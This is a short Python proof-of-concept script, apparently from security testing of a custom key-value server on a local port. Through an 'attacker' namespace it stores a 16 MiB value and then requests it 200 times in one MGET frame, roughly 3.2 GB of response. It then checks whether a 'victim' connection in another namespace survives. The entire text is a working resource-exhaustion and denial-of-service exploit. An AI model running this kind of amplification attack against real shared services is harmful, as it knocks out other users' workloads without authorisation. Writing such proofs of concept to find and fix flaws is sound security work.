import sys; sys.path.insert(0,'/tmp/exp'); from rd import *
port=31003
victim=connect(port,'otherjob'); req(victim,T['SET'],b('k')+b('v'))
c=connect(port,'job')
print(req(c,T['SET'],b('big')+b(b'x'*(16<<20)))[0])
n=200
body=u32(n)+b('big')*n+i64(1000)
c.sendall(frame(T['MGET'],2,body))
try: print(recv_frame(c)[:2])
except Exception as e: print('attacker conn:',e)
try: print('victim get:', req(victim,T['GET'],b('k')+i64(100)))
except Exception as e: print('victim (other namespace):', repr(e))
